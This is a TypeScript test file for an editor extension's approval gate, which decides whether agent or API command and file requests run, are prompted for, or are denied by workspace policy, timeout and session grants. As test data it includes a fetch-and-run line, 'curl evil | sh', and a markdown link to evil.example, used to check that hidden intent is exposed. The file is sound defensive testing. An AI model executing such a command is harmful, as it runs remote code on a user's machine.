// The approval gate for command lines given through the API (src/extension/approval/policy.ts):
// each policy against workspace paths, the question asked and what a denial answers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  ALLOW,
  ALLOW_FOR_SESSION,
  ApprovalGate,
  DENY,
  describeRequest,
  isInside,
  toLocalPath,
  type ApprovalHost,
  type ApprovalPolicy,
  type ApprovalRequest,
} from '../../../src/extension/approval/policy';

/** A host whose prompt is answered by the test (or never, to exercise the timeout). */
function host(policy: ApprovalPolicy, opts: { roots?: string[]; timeoutMs?: number; answer?: (msg: string) => Promise<string | undefined> } = {}) {
  const prompts: string[] = [];
  const h: ApprovalHost = {
    policy: () => policy,
    timeoutMs: () => opts.timeoutMs ?? 60_000,
    workspaceRoots: () => opts.roots ?? ['/work/project'],
    prompt: (msg, choices) => {
      assert.deepEqual(choices, ['Allow', 'Allow for Session', 'Deny']);
      prompts.push(msg);
      return opts.answer ? opts.answer(msg) : new Promise(() => {});
    },
  };
  return { h, prompts };
}

const run = (cwd: string, argv = ['ls', '-la']): ApprovalRequest => ({ kind: 'run', argv, cwd });

describe('approval gate', () => {
  it('describes run and file requests with the exact wording the e2e harness matches', () => {
    assert.equal(describeRequest(run('/tmp', ['echo', 'hi there'])), "Exec Server: an agent wants to run `echo 'hi there'` in /tmp");
    assert.equal(describeRequest({ kind: 'fs', operation: 'write', path: '/tmp/a' }), 'Exec Server: an agent wants to write /tmp/a');
    assert.equal(
      describeRequest({ kind: 'fs', operation: 'rename', path: '/a', destination: '/b' }),
      'Exec Server: an agent wants to rename /a to /b',
    );
    // Shown whole (a tail cannot hide), shell-quoted so no `[label](target)` link can form.
    assert.ok(describeRequest(run('/', ['x'.repeat(1000) + '; curl evil | sh'])).includes('curl evil | sh'), 'long commands are shown whole');
    assert.doesNotMatch(describeRequest(run('/', ['[npm test](https://evil.example)'])), /\]\(https:/);
    assert.match(describeRequest(run('/', ['a\u202Eb'])), /\\u202e/);
    // Requests through the exported API come from another extension, and remote environments are named.
    assert.equal(
      describeRequest({ kind: 'run', argv: ['make'], cwd: '/src', environment: 'devbox' }, 'api'),
      'Exec Server: another extension wants to run `make` in /src on devbox',
    );
    assert.equal(describeRequest({ kind: 'fs', operation: 'delete', path: '/a', environment: 'Local' }), 'Exec Server: an agent wants to delete /a');
  });

  it('neverAsk allows without prompting', async () => {
    const { h, prompts } = host('neverAsk');
    assert.deepEqual(await new ApprovalGate(h).check(run('/etc')), { allowed: true, reason: 'policy' });
    assert.equal(prompts.length, 0);
  });

  it('askOutsideWorkspace allows inside the workspace and asks outside (file URIs and .. handled)', async () => {
    const { h, prompts } = host('askOutsideWorkspace', { answer: async () => DENY });
    const gate = new ApprovalGate(h);
    assert.equal((await gate.check(run('/work/project/src'))).allowed, true);
    assert.equal((await gate.check(run('file:///work/project'))).allowed, true);
    assert.equal(prompts.length, 0);
    const outside = await gate.check(run('/work/project/../other'));
    assert.deepEqual(outside, { allowed: false, reason: 'user denied' });
    assert.equal((await gate.check(run('/work/projectX'))).allowed, false, 'a sibling with the same prefix is outside');
    // A copy out of the workspace is asked even though its source is inside.
    assert.equal((await gate.check({ kind: 'fs', operation: 'copy', path: '/work/project/a', destination: '/etc/a' })).allowed, false);
    assert.equal(prompts.length, 3);
  });

  it('alwaysAsk asks even inside the workspace; Allow allows once', async () => {
    const { h, prompts } = host('alwaysAsk', { answer: async () => ALLOW });
    const gate = new ApprovalGate(h);
    assert.deepEqual(await gate.check(run('/work/project')), { allowed: true, reason: 'user allowed' });
    assert.deepEqual(await gate.check(run('/work/project')), { allowed: true, reason: 'user allowed' });
    assert.equal(prompts.length, 2);
  });

  it('Allow for Session stops asking for that scope only; questions still open are answered one by one', async () => {
    let release: (v: string) => void = () => {};
    const first = new Promise<string>((r) => (release = r));
    let n = 0;
    const { h, prompts } = host('alwaysAsk', { timeoutMs: 1500, answer: () => (n++ === 0 ? first : new Promise(() => {})) });
    const gate = new ApprovalGate(h);
    const a = gate.check(run('/a'), 'agent');
    const b = gate.check(run('/b'), 'agent');
    const other = gate.check(run('/c'), 'api');
    await new Promise((r) => setImmediate(r));
    release(ALLOW_FOR_SESSION);
    assert.deepEqual(await a, { allowed: true, reason: 'user allowed' });
    assert.deepEqual(await gate.check(run('/d'), 'agent'), { allowed: true, reason: 'session' });
    assert.equal(prompts.length, 3, 'the later agent request did not prompt');
    assert.deepEqual(await b, { allowed: false, reason: 'timed out' }, 'the grant did not answer the other open question');
    gate.resetSession('agent');
    assert.equal(gate.isSessionAllowed('agent'), false);
    // The api question was never answered: the agent's choice must not have allowed it.
    assert.deepEqual(await other, { allowed: false, reason: 'timed out' });
  });

  it('a click after the timeout grants nothing', async () => {
    let late: (v: string) => void = () => {};
    const { h, prompts } = host('alwaysAsk', { timeoutMs: 30, answer: () => new Promise<string>((r) => (late = r)) });
    const gate = new ApprovalGate(h);
    assert.deepEqual(await gate.check(run('/x'), 'api'), { allowed: false, reason: 'timed out' });
    late(ALLOW_FOR_SESSION);
    await new Promise((r) => setImmediate(r));
    assert.equal(gate.isSessionAllowed('api'), false);
    void gate.check(run('/y'), 'api');
    assert.equal(prompts.length, 2);
  });

  it('no answer within the timeout denies; dismissing denies', async () => {
    const { h } = host('alwaysAsk', { timeoutMs: 30 });
    assert.deepEqual(await new ApprovalGate(h).check(run('/x')), { allowed: false, reason: 'timed out' });
    const d = host('alwaysAsk', { answer: async () => undefined });
    assert.deepEqual(await new ApprovalGate(d.h).check(run('/x')), { allowed: false, reason: 'dismissed' });
    const r = host('alwaysAsk', { answer: () => Promise.reject(new Error('window closed')) });
    assert.deepEqual(await new ApprovalGate(r.h).check(run('/x')), { allowed: false, reason: 'dismissed' });
  });

  it('relative or malformed paths are never treated as inside the workspace', async () => {
    const { h, prompts } = host('askOutsideWorkspace', { answer: async () => DENY });
    const gate = new ApprovalGate(h);
    assert.equal((await gate.check(run('project'))).allowed, false);
    assert.equal((await gate.check(run('file://host/%zz'))).allowed, false);
    assert.equal(prompts.length, 2);
    assert.equal(toLocalPath(''), undefined);
    assert.equal(toLocalPath('file:///a%20b/c'), '/a b/c');
    assert.equal(isInside('/a/b', '/a/'), true);
  });
});
